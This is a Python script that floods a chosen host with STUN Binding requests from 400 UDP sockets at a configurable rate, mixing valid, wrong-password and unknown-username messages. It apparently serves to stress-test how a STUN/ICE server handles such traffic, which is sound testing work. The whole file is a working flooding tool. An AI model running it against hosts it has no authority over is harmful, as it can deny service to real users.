#!/usr/bin/env python3
"""Floods a host with STUN Binding requests: stunflood.py ADDRESS PORT USERNAME PASSWORD RATE SECONDS

From hundreds of ports in turn: good checks (as a member of the network can make them), the same with
a wrong password (as whoever saw the ufrag on its way can), and with a ufrag that nobody has.
"""

import hashlib
import hmac
import os
import socket
import struct
import sys
import time
import zlib

SOCKETS = 400
COOKIE = 0x2112A442


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def request(username, password):
    body = attribute(0x0006, username.encode()) + attribute(0x0024, struct.pack("!I", 1845501695))
    body += attribute(0x802A, os.urandom(8))
    txid = os.urandom(12)

    def head(length):
        return struct.pack("!HHI", 1, length, COOKIE) + txid
    mac = hmac.new(password.encode(), head(len(body) + 24) + body, hashlib.sha1).digest()
    body += attribute(0x0008, mac)
    crc = zlib.crc32(head(len(body) + 8) + body) ^ 0x5354554E
    return head(len(body) + 8) + body + attribute(0x8028, struct.pack("!I", crc))


def main():
    address, port, username, password, rate, seconds = sys.argv[1:]
    rate, seconds = int(rate), float(seconds)
    target = (address, int(port))
    socks = [socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
             for _ in range(SOCKETS)]
    for sock in socks:
        sock.setblocking(False)
    kinds = [(username, password)] * 3 + [(username, "x" * len(password)), ("nobody:here", password)]
    began, n_sent = time.monotonic(), 0
    while True:
        now = time.monotonic() - began
        if now >= seconds:
            break
        while n_sent < now * rate:
            try:
                socks[n_sent % SOCKETS].sendto(request(*kinds[n_sent % len(kinds)]), target)
            except BlockingIOError:
                pass
            n_sent += 1
        time.sleep(0.001)
    print(f"sent {n_sent}")


main()
